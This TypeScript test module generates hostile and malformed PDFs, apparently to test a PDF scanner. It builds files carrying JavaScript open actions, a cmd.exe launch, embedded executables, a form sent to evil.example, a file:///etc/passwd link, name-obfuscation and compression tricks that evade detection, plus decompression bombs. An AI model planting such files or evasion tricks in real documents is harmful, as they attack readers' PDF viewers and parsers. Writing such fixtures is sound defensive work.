import { deflateSync } from 'node:zlib'
import {
  addToPdf,
  compressed,
  compressedPage,
  onePage,
  type Piece,
  writeCompressedPdf,
  writePdf,
} from './pdf.ts'
import { pdf, type SentFile } from './sent-file.ts'

const acts: Record<string, string> = {
  'a script at the opening': '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
  'a script in another file': '/OpenAction << /S /JavaScript /JS 9 0 R >>',
  'scripts by name': '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>',
  'a program': '/OpenAction << /S /Launch /F (cmd.exe) >>',
  'a file within':
    '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 9 0 R >> >>] >> >>',
  'a rich medium': '/X << /Subtype /RichMedia >>',
  'a form of XML': '/AcroForm << /XFA [(x) 9 0 R] >>',
  'an act of its own': '/AA << /WC << /S /URI /URI (x) >> >>',
  'a form that is sent away': '/X << /A << /S /SubmitForm /F (https://evil.example) >> >>',
  'data that is fetched': '/X << /S /ImportData /F (x) >>',
  'a way into a file within': '/OpenAction << /S /GoToE /T << /R /C >> >>',
  'a way to another machine': '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>',
  'a film': '/X << /Subtype /Movie /Movie << /F (x) >> >>',
  'a thing with three sides': '/X << /Subtype /3D >>',
  'a file to click': '/X << /Subtype /FileAttachment >>',
  'a file within, by its place alone': '/X << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
  'a file that goes with it': '/AF [9 0 R]',
  'a thread in another file': '/OpenAction << /S /Thread /F (a.pdf) /D 0 >>',
  'a way to a page that anybody can change': '/OpenAction << /S /URI /URI (http://evil.example) >>',
  'a script as an address': '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>',
  'a file of this machine as an address': '/OpenAction << /S /URI /URI (file:///etc/passwd) >>',
  'a mail as an address': '/OpenAction << /S /URI /URI (mailto:a@evil.example) >>',
  'an address that lies elsewhere': '/OpenAction << /S /URI /URI 9 0 R >>',
  'where all its addresses begin': '/URI << /Base (http://evil.example/) >>',
}

const hashed = (text: string) =>
  text.replace(
    /\/(JavaScript|JS|Launch|EmbeddedFiles|RichMedia|XFA|AA|SubmitForm|ImportData|GoToE|GoToR|Movie|3D|FileAttachment|EF|AF|Thread|URI|Base)\b/g,
    (_, name: string) =>
      `/${[...name].map((sign, at) => (at % 2 ? sign : `#${sign.charCodeAt(0).toString(16)}`)).join('')}`,
  )

/** Active content in every place where a reader would find it. */
export function actingPdfs(): SentFile[] {
  const places: Record<string, (act: string) => Buffer> = {
    'in plain sight': (act) => writePdf(onePage(act)),
    'its name in figures': (act) => writePdf(onePage(hashed(act))),
    'in a compressed stream of objects': (act) => writeCompressedPdf(compressedPage(act)),
    'its name in figures, in a compressed stream': (act) => writeCompressedPdf(compressedPage(hashed(act))),
    'in a change at the end': (act) =>
      addToPdf(writePdf(onePage()), 1, `<< /Type /Catalog /Pages 2 0 R ${act} >>`),
    'in an object within a stream': (act) =>
      writePdf(onePage('', { says: '', data: Buffer.from(`x\n8 0 obj\n<< ${act} >>\nendobj\n`) })),
    'in an object within a string': (act) => writePdf(onePage('', `(8 0 obj << ${act} >> endobj)`)),
  }
  return [
    ...Object.entries(acts).flatMap(([name, act]) =>
      Object.entries(places).map(([place, write]) => pdf(`${name}, ${place}`, write(act))),
    ),
    pdf(
      'a script whose name lies elsewhere',
      writePdf(onePage('/OpenAction << /S 6 0 R /N 1 >>', '/JavaScript')),
    ),
    pdf('a script after a comment', writePdf(onePage('/OpenAction << /S % >>\n /JavaScript >>'))),
    pdf(
      'a script in an object whose head has comments',
      writePdf(onePage('', { says: '', data: Buffer.from('\n8 %\n0 %\nobj%\n<< /JS (x) >>') })),
    ),
    pdf(
      'a password',
      writePdf(onePage(), {
        trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a) (b)]',
      }),
    ),
    pdf(
      'a password in a compressed file',
      writeCompressedPdf(compressedPage(), { trailer: '/Encrypt 9 0 R' }),
    ),
    pdf('a password, its name in figures', writePdf(onePage(), { trailer: '/#45ncrypt 9 0 R' })),
  ]
}

export function brokenPdfs(whole: Buffer): SentFile[] {
  const text = whole.toString('latin1')
  const stream = (says: string, data: Buffer | string = 'x') =>
    writePdf(onePage('', { says, data: Buffer.from(data) }))
  const objects = (pack: (text: string, first: number) => Piece) =>
    writeCompressedPdf(compressedPage('/OpenAction << /JS (x) >>'), { objects: pack })
  const nested = (depth: number) => writePdf(onePage('', `${'['.repeat(depth)}${']'.repeat(depth)}`))
  const says = (first: number) => `/Type /ObjStm /N 4 /First ${first}`
  return [
    pdf('a line before the head', writePdf(onePage(), { before: '\n' })),
    pdf('a mark before the head', writePdf(onePage(), { before: '\xef\xbb\xbf' })),
    pdf('a kilobyte before the head', writePdf(onePage(), { before: 'x'.repeat(1_000) })),
    pdf('a version that is none', writePdf(onePage(), { version: '9.9' })),
    pdf('no end', text.replace('%%EOF', '')),
    pdf('words after the end', writePdf(onePage(), { after: '\nand more' })),
    pdf('a script after the end', writePdf(onePage(), { after: '\n8 0 obj << /X 1 >> endobj' })),
    pdf('no table of contents', text.replace(/xref[\s\S]*trailer/, 'trailer')),
    pdf('a table of contents elsewhere', text.replace(/startxref\n\d+/, 'startxref\n7')),
    pdf('a table of contents beyond the end', text.replace(/startxref\n\d+/, 'startxref\n99999999')),
    pdf('no root', text.replaceAll('/Root', '/Rout')),
    pdf('a dictionary without end', writePdf(onePage('', '<< /A << /B 1 >>'))),
    pdf('a string without end', writePdf(onePage('', '<< /A (( ) >>'))),
    pdf('a key that is no name', writePdf(onePage('', '<< (A) 1 >>'))),
    pdf('lists in lists in lists', nested(5_000)),
    pdf(
      'objects in strings in objects',
      writePdf(onePage('', `${'1 0 obj<</A('.repeat(3_000)}${')>>'.repeat(3_000)}`)),
    ),
    pdf('a stream in an unknown code', stream('/Filter /Mystery')),
    pdf('a stream in a code of its own', stream('/Filter /Crypt')),
    pdf('a stream in LZW', stream('/Filter /LZWDecode')),
    pdf('a stream whose code lies elsewhere', stream('/Filter 9 0 R')),
    pdf('a stream whose bytes lie elsewhere', stream('/F (\\\\\\\\evil\\\\x)')),
    pdf(
      'objects that cannot be decompressed',
      objects((_, first) => ({
        says: `${says(first)} /Filter /FlateDecode`,
        data: Buffer.from('rubbish'),
      })),
    ),
    pdf(
      'objects that are decompressed in part',
      objects((held, first) => ({
        says: `${says(first)} /Filter /FlateDecode`,
        data: deflateSync(held).subarray(0, -9),
      })),
    ),
    pdf(
      'objects behind a predictor',
      objects((held, first) =>
        compressed(predicted(held), `${says(first)} /DecodeParms << /Predictor 12 /Columns 8 >>`),
      ),
    ),
    pdf(
      'objects compressed twice',
      objects((held, first) => ({
        says: `${says(first)} /Filter [/FlateDecode /FlateDecode]`,
        data: deflateSync(deflateSync(held)),
      })),
    ),
    pdf(
      'objects in letters',
      objects((held, first) => ({
        says: `${says(first)} /Filter [/ASCIIHexDecode /FlateDecode]`,
        data: Buffer.from(deflateSync(held).toString('hex')),
      })),
    ),
    pdf(
      'objects in a stream without its type',
      objects((held, first) => compressed(held, `/N 4 /First ${first}`)),
    ),
    pdf(
      'objects in letters alone',
      objects((held, first) => ({
        says: `${says(first)} /Filter /ASCIIHexDecode`,
        data: Buffer.from(`${Buffer.from(held).toString('hex')}>`),
      })),
    ),
    pdf(
      'objects in a stream that says twice what it is',
      objects((held, first) => ({
        says: `${says(first)} /Filter /ASCIIHexDecode /Filter /FlateDecode`,
        data: deflateSync(`${Buffer.from(held).toString('hex')}>`, { level: 0 }),
      })),
    ),
    pdf(
      'objects that are not compressed, and longer than they say',
      objects((held, first) => ({ says: says(first), data: Buffer.from(held), length: 5 })),
    ),
    pdf(
      'objects that are not compressed, and go on after what looks like their end',
      objects((held, first) => ({
        says: says(first),
        data: Buffer.from(`${' '.repeat(first)}(endstream) ${held}`),
      })),
    ),
  ]
}

/** Rows of eight bytes, each as its difference from the row above, as in pictures: no name is legible in the result. */
function predicted(text: string): Buffer {
  const bytes = Buffer.from(text.padEnd(Math.ceil(text.length / 8) * 8))
  const rows = Array.from({ length: bytes.length / 8 }, (_, row) => [
    2,
    ...bytes
      .subarray(row * 8, row * 8 + 8)
      .map((byte, column) => byte - (bytes[(row - 1) * 8 + column] ?? 0)),
  ])
  return Buffer.from(rows.flat())
}

/** A few bytes that decompress to more than a reader can hold. */
export function bombs(): SentFile[] {
  const [bomb, half] = [70, 60].map((mega) => deflateSync(Buffer.alloc(mega * 1024 * 1024), { level: 1 }))
  if (!bomb || !half) throw new Error('no bomb')
  const stream = (filters: string, data: Buffer): Piece => ({ says: `/Filter ${filters}`, data })
  const objects = (first: number) => `/Type /ObjStm /N 4 /First ${first} /Filter /FlateDecode`
  return [
    pdf('one stream of 70 MB', writePdf(onePage('', stream('/FlateDecode', bomb)))),
    pdf('four streams of 60 MB', writePdf(onePage('', ...Array(4).fill(stream('/FlateDecode', half))))),
    pdf('a bomb in a bomb', writePdf(onePage('', stream('[/FlateDecode /FlateDecode]', deflateSync(bomb))))),
    pdf(
      'a bomb in letters',
      writePdf(
        onePage('', stream('[/ASCIIHexDecode /FlateDecode]', Buffer.from(`${bomb.toString('hex')}>`))),
      ),
    ),
    pdf(
      'a bomb of objects',
      writeCompressedPdf(compressedPage(), { objects: (_, first) => ({ says: objects(first), data: bomb }) }),
    ),
    pdf(
      'a bomb as a table of contents',
      addToPdf(writePdf(onePage()), 6, { says: '/Type /XRef /Filter /FlateDecode', data: bomb }),
    ),
  ]
}
